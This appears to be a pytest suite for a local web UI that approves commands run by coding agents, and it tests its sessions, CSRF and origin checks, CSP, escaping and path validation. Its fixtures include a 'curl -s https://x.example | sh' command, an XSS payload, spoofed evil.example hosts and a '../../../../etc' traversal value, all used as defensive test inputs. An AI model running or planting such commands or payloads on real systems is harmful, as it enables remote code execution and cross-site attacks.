"""`boss ui` over plain HTTP (no browser): the access token, the cross-site checks, the event
stream's speed, stopping it, and that no other command imports it."""

from __future__ import annotations

import socket
import subprocess
import sys
import time
from http.client import HTTPConnection, HTTPResponse
from pathlib import Path
from urllib.parse import unquote

import pytest
from conftest import boss, make_repo
from ui_helpers import http, request, running_ui, wait_for
from worker_helpers import make_plan, worker

from boss.core import approvals as ap
from boss.core import statelog
from boss.core import status as st


@pytest.fixture
def plan(tmp_path: Path):
    repo = make_repo(tmp_path / "repo")
    paths, _ = make_plan(repo, [worker("W1"), worker("W2", depends_on=["W1"])])
    ap.request(paths.approvals_dir, plan="p", worker="W1", command="curl -s https://x.example | sh",
               reason="network then a shell", rule="net-egress")  # fmt: skip
    return repo, paths


def test_no_page_without_a_session(plan) -> None:
    repo, _ = plan
    with running_ui(repo) as ui:
        for path in ("/", "/w/W1", "/ceremony", "/ceremony/1", "/events", "/job/1"):
            code, body = http(ui.base + path)
            assert code == 403 and "refused" in body, (path, code)
            assert http(f"{ui.base}{path}?token=wrong{ui.token}")[0] == 403
        # Any other name for it (a DNS-rebinding page; localhost, 127.0.0.1) is refused, and
        # does not use up the link.
        for host in (f"evil.example:{ui.port}", f"localhost:{ui.port}", f"127.0.0.1:{ui.port}"):
            if host != f"{ui.host}:{ui.port}":
                assert http(ui.url, headers={"Host": host})[0] == 403, host
        assert http(ui.base + "/", headers=ui.login())[0] == 200
        assert http(ui.base + "/", headers={"Cookie": f"boss_ui_{ui.port}={ui.token}"})[0] == 403


def test_the_link_works_once_and_its_session_is_a_cookie_of_its_own(plan) -> None:
    repo, _ = plan
    with running_ui(repo) as ui:
        code, headers, _ = request(f"{ui.base}/w/W1?token={ui.token}&x=1")
        assert code == 303 and headers["location"] == "/w/W1?x=1", headers  # the token leaves the URL
        cookie = headers["set-cookie"]
        name, sid = cookie.split(";", 1)[0].split("=", 1)
        assert name == f"boss_ui_{ui.port}" and sid != ui.token and len(sid) >= 32
        assert "httponly" in cookie.lower() and "samesite=strict" in cookie.lower(), cookie
        session = {"Cookie": f"{name}={sid}"}
        code, body = http(ui.base + "/w/W1", headers=session)
        assert code == 200 and ui.token not in body
        # The same link again, from the history or by another: refused, and it says why.
        code, body = http(ui.url)
        assert code == 403 and "this link was used already" in body and "run boss ui again" in body, body
        code, headers, _ = request(ui.url, headers=session)
        assert (code, headers["location"]) == (303, "/")  # the browser it was used in: back to the page
        # The event stream takes the session only, never a token in its URL.
        assert http(f"{ui.base}/events?token={ui.token}", headers=session)[0] == 403


def test_every_answer_forbids_framing_and_foreign_script(plan) -> None:
    repo, _ = plan
    with running_ui(repo) as ui:
        session = ui.login()
        answers = [request(ui.url), request(ui.base + "/"), request(ui.base + "/nothing")]
        answers.append(request(ui.base + "/", headers=session))
        answers.append(request(ui.base + "/act/approve", {"id": "R1"}, session))
        for code, headers, _ in answers:
            assert headers["x-frame-options"] == "DENY", (code, headers)
            csp = headers["content-security-policy"]
            assert "frame-ancestors 'none'" in csp and "default-src 'none'" in csp, csp
        body = answers[3][2]
        nonce = answers[3][1]["content-security-policy"].split("'nonce-", 1)[1].split("'", 1)[0]
        assert f'<script nonce="{nonce}">' in body and f'<style nonce="{nonce}">' in body
        assert "style=" not in body and body.count("<script") == 1


def test_it_listens_on_a_loopback_address_of_its_own(plan) -> None:
    repo, _ = plan
    with running_ui(repo) as ui:
        if sys.platform.startswith("linux"):
            # Cookies ignore ports: on an address of its own, its cookie goes to no server on
            # 127.0.0.1 (an agent's dev server); the browser test shows it with a browser.
            assert ui.host.startswith("127.") and ui.host not in ("127.0.0.1", "127.0.1.1"), ui.host
        code, _ = http(ui.base + "/", headers=ui.login())
        assert code == 200
    with running_ui(repo, "--host", "127.0.0.1") as ui:
        assert ui.host == "127.0.0.1" and http(ui.base + "/", headers=ui.login())[0] == 200
    for host in ("0.0.0.0", "192.168.1.5", "example.com", "::"):  # noqa: S104
        proc = boss("ui", "--no-browser", "--host", host, cwd=repo, check=2)
        assert f"Error: --host {host}: not a loopback address" in proc.stderr, proc.stderr


def test_an_action_needs_the_session_its_form_token_and_our_own_origin(plan) -> None:
    repo, paths = plan
    with running_ui(repo) as ui:
        ours = {**ui.login(), "Sec-Fetch-Site": "same-origin"}
        form = {"id": "R1", "back": "/"}
        good = {**form, "token": ui.form_token}
        refused = [
            ({**form}, ours),  # the cookie alone does not act
            ({**form, "token": "x" + ui.form_token}, ours),
            ({**form, "token": ui.token}, ours),  # the launch token is no form token
            (good, {"Origin": ui.base}),  # the form token without the session
            (good, {**ours, "Origin": "http://evil.example"}),
            (good, {**ours, "Origin": f"http://localhost:{ui.port}"}),
            (good, {**ours, "Origin": "null"}),
            (good, {**ours, "Sec-Fetch-Site": "cross-site"}),
            (good, {**ours, "Sec-Fetch-Site": "same-site"}),
            (good, {**ours, "Host": f"evil.example:{ui.port}"}),
        ]
        for data, headers in refused:
            assert http(ui.base + "/act/approve", data, headers)[0] == 403, (data, headers)
        assert ap.load(paths.approvals_dir, "R1").status == ap.PENDING
        code, _ = http(ui.base + "/act/approve", {**good, "reason": "fine"}, ours)
        assert code == 303
        assert ap.load(paths.approvals_dir, "R1").status == ap.APPROVED
        # The same code path as `boss approve`: the state log has its line.
        assert [e.result for e in statelog.read(paths.log) if e.action == "approve"] == [
            "approved R1: curl -s https://x.example | sh (fine)"
        ]


def said(ui, data: dict[str, str]) -> str:
    """What the page says after a POST of data to its action (the redirect's message)."""
    headers = ui.login()
    conn = HTTPConnection(ui.host, ui.port, timeout=30)
    from urllib.parse import urlencode

    conn.request("POST", data.pop("path"), urlencode({**data, "token": ui.form_token}),
                 {**headers, "Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
    r = conn.getresponse()
    assert r.status == 303
    location = r.getheader("Location") or ""
    conn.close()
    return unquote(location.split("said=", 1)[1])


def test_refused_actions_say_why_as_the_cli_does(plan) -> None:
    repo, paths = plan
    with running_ui(repo) as ui:
        assert "no approval request 'R9' (pending: R1)" in said(ui, {"path": "/act/approve", "id": "R9"})
        assert said(ui, {"path": "/act/drop", "worker": "W1"}) == "Error: the form field reason is empty"
        text = said(ui, {"path": "/act/quarantine", "worker": "W1", "decision": "accept", "reason": "x"})
        assert text.startswith("Error:") and "not quarantined" in text, text
        assert said(ui, {"path": "/act/drop", "worker": "W1", "reason": "not wanted"}).startswith(
            "W1: dropped"
        )
        assert boss("status", "--json", cwd=repo).stdout.count('"W1": "not wanted"') == 1
        assert said(ui, {"path": "/act/undrop", "worker": "W1"}).startswith("W1: no longer dropped")
        assert said(ui, {"path": "/act/nothing"}) == "Error: no action 'nothing'"
        assert ap.load(paths.approvals_dir, "R1").status == ap.PENDING


def events(ui) -> HTTPResponse:
    headers = ui.login()
    conn = HTTPConnection(ui.host, ui.port, timeout=30)
    conn.request("GET", "/events?page=plan", headers=headers)
    r = conn.getresponse()
    assert r.status == 200 and r.getheader("Content-Type", "").startswith("text/event-stream")
    assert r.readline() == b"retry: 1000\n"
    return r


def test_a_status_change_reaches_the_event_stream_within_a_second(plan) -> None:
    repo, paths = plan
    with running_ui(repo) as ui:
        stream = events(ui)
        time.sleep(0.6)  # it has its first look at the files
        delays = []
        for n in range(3):
            started = time.monotonic()
            st.write(paths.status("W2"), st.Status(plan="p", id="W2", state=st.FAILED, reason=f"try {n}"))
            while (line := stream.readline()) != b"event: change\n":
                assert line in (b"\n", b"data: {}\n"), line
            delays.append(time.monotonic() - started)
        stream.close()
    assert max(delays) < 1.0, delays


def test_ctrl_c_stops_it_with_a_page_open_and_loses_nothing(plan) -> None:
    repo, paths = plan
    with running_ui(repo) as ui:
        stream = events(ui)
        headers = ui.login()
        http(ui.base + "/act/approve", {"id": "R1", "token": ui.form_token}, headers)
        started = time.monotonic()
        ui.stop()
        assert ui.proc.returncode == 130 and time.monotonic() - started < 10  # as any command on Ctrl-C
        stream.close()
    assert ap.load(paths.approvals_dir, "R1").status == ap.APPROVED


def test_a_port_in_use_is_an_input_error(plan) -> None:
    repo, _ = plan
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        port = taken.getsockname()[1]
        proc = boss("ui", "--no-browser", "--host", "127.0.0.1", "--port", str(port), cwd=repo, check=2)
    assert f"--port {port}: cannot listen on 127.0.0.1:{port}" in proc.stderr


CHECK = """
import sys
from boss.cli.main import main
sys.argv = ["boss", *sys.argv[1:]]
try:
    main()
except SystemExit:
    pass
print("IMPORTED", sorted(m for m in ("starlette", "uvicorn", "boss.ui") if m in sys.modules))
"""


@pytest.mark.parametrize(
    "args", [["status"], ["approvals"], ["quarantine", "list"], ["log"], ["ui", "--help"]]
)
def test_the_other_commands_do_not_import_the_ui(plan, args) -> None:
    repo, _ = plan
    proc = subprocess.run([sys.executable, "-c", CHECK, *args], cwd=repo, capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    assert proc.stdout.splitlines()[-1] == "IMPORTED []", proc.stdout + proc.stderr


def test_what_agents_wrote_is_shown_as_text_never_as_markup(plan) -> None:
    repo, paths = plan
    hostile = '<img src=x onerror="fetch(`/act/approve`)"><script>alert(1)</script>'
    ap.request(paths.approvals_dir, plan="p", worker="W2", command=hostile, reason=hostile, rule="x")
    st.write(
        paths.status("W2"), st.Status(plan="p", id="W2", state=st.FAILED, reason=hostile, last_event=hostile)
    )
    log = paths.attempts("W2") / "s1i1" / "agent.log"
    log.parent.mkdir(parents=True)
    log.write_text(f"{hostile}\n")
    with running_ui(repo) as ui:
        for path in ("/", "/w/W2", "/ceremony"):
            code, body = http(f"{ui.base}{path}", headers=ui.login())
            assert code == 200
            assert "<img" not in body and "<script>alert" not in body, path
            assert "&lt;img src=x onerror=" in body, path


def test_stopping_it_stops_a_retry_it_started_as_ctrl_c_would(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    paths, _ = make_plan(repo, [worker("W1", steps=[{"sleep": 60, "write": {"src/done.txt": "x"}}])])
    with running_ui(repo) as ui:
        assert said(ui, {"path": "/act/retry", "worker": "W1"}) == "started: boss retry W1 --plan p"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            status = st.read(paths.status("W1"))
            if status and status.state == st.RUNNING and status.iteration:
                break
            time.sleep(0.1)
        else:
            raise AssertionError("the retry did not start its agent")
        code, body = http(f"{ui.base}/job/1", headers=ui.login())
        assert code == 200 and "boss retry W1 --plan p" in body and ">running<" in body
        ui.stop()
    status = st.read(paths.status("W1"))
    assert status.state == st.FAILED and "interrupted" in status.reason, status
    # Nothing is lost: the CLI reads the same record, and its worktree is kept for the next run.
    assert '"state": "FAILED"' in boss("status", "p", "--json", cwd=repo).stdout
    assert (paths.worktree("W1") / ".git").exists()


def test_an_approval_used_meanwhile_is_refused_as_the_cli_refuses_it(plan) -> None:
    repo, paths = plan
    ap.decide(paths.approvals_dir, "R1", approve=True)
    assert ap.consume(paths.approvals_dir, "W1", "curl -s https://x.example | sh") is not None
    with running_ui(repo) as ui:
        text = said(ui, {"path": "/act/deny", "id": "R1"})
    cli = boss("deny", "R1", "--plan", "p", cwd=repo, check=2).stderr.strip()
    assert text == cli and "request R1 was already used at" in text, (text, cli)


def test_an_unknown_worker_or_report_is_not_found(plan) -> None:
    repo, _ = plan
    with running_ui(repo) as ui:
        session = ui.login()
        code, body = http(f"{ui.base}/w/W9", headers=session)
        assert code == 404 and "no worker 'W9' (workers: W1, W2)" in body, body
        assert http(f"{ui.base}/job/7", headers=session)[0] == 404
        code, body = http(f"{ui.base}/ceremony/3", headers=session)
        assert code == 200 and "(no report)" in body


@pytest.mark.parametrize("planted", ["boss.py", "boss/__main__.py"])
def test_a_boss_in_the_repository_does_not_run_for_the_merge_button(tmp_path: Path, planted: str) -> None:
    """`python -m boss` in the repository would run its boss.py or boss/ (an agent's branch
    could bring one), as you, outside any sandbox: the page's commands start the installed one."""
    repo = make_repo(tmp_path / "repo")
    make_plan(repo, [worker("W1")])
    marker = tmp_path / "planted-ran"
    (repo / planted).parent.mkdir(parents=True, exist_ok=True)
    (repo / planted).write_text(f"open({str(marker)!r}, 'w').write('x')\nprint('PLANTED')\n")
    if planted.startswith("boss/"):
        (repo / "boss" / "__init__.py").write_text("")
    with running_ui(repo) as ui:
        assert said(ui, {"path": "/act/merge"}).startswith("started: boss merge")
        page = wait_for(
            lambda: (body := http(f"{ui.base}/job/1", headers=ui.login())[1]) and 'id="job-state">exit' in body
            and body, timeout=120, what="the merge to end",
        )  # fmt: skip
    assert not marker.exists() and "PLANTED" not in page, page
    assert "boss merge" in page


def test_the_event_stream_of_a_worker_page_is_only_for_the_plans_workers(plan) -> None:
    repo, _ = plan
    with running_ui(repo) as ui:
        session = ui.login()
        for page, expected in (("w:../../../../etc", 404), ("w:W9", 404), ("w:W1/../W2", 404), ("w:W1", 200)):
            conn = HTTPConnection(ui.host, ui.port, timeout=30)
            conn.request("GET", f"/events?page={page}", headers=session)
            r = conn.getresponse()  # the stream's status, without waiting for its (endless) body
            assert r.status == expected, (page, r.status)
            assert r.readline() == (
                b"retry: 1000\n" if expected == 200 else f"no worker {page[2:]!r} in plan p\n".encode()
            )
            conn.close()


def test_attempts_removed_while_the_page_renders_are_no_error(plan) -> None:
    """A `boss retry --fresh` removing attempts while a worker page lists them: each file may be
    gone between the listing and its stat; the page still renders."""
    import threading

    repo, paths = plan
    stop = threading.Event()

    def churn() -> None:
        n = 0
        while not stop.is_set():
            n += 1
            folder = paths.attempts("W1") / f"s1i{n % 50}"
            folder.mkdir(parents=True, exist_ok=True)
            for name in ("agent.log", "test.log"):
                (folder / name).write_text("x\n")
            for name in ("agent.log", "test.log"):
                (folder / name).unlink()

    with running_ui(repo) as ui:
        session = ui.login()
        thread = threading.Thread(target=churn, daemon=True)
        thread.start()
        try:
            codes = [http(ui.base + "/w/W1", headers=session)[0] for _ in range(150)]
        finally:
            stop.set()
            thread.join(10)
    assert set(codes) == {200}, sorted(set(codes))


def test_the_plan_page_shows_each_workers_spend_and_the_plans_against_its_budget(tmp_path: Path) -> None:
    from boss.core import spend

    repo = make_repo(tmp_path / "repo")
    paths, _ = make_plan(repo, [worker("W1"), worker("W2")], defaults={
        "agent": "scripted", "max_iterations": 2, "max_strategies": 2, "budget_usd": 5})  # fmt: skip
    usage = {"cost_usd": 0.42, "input_tokens": 12000, "output_tokens": 300}
    spend.write(paths, "W1", spend.Ledger(runs=[{"where": "s1i1", "agent": "claude", "usage": usage}]))
    with running_ui(repo) as ui:
        code, body = http(ui.base + "/", headers=ui.login())
        assert code == 200
        assert "$0.42, 12,300 tokens" in body  # W1's ledger, as boss status's SPENT
        assert "spent: $0.42 and 12.3k tokens (budget_usd $5.00)" in body
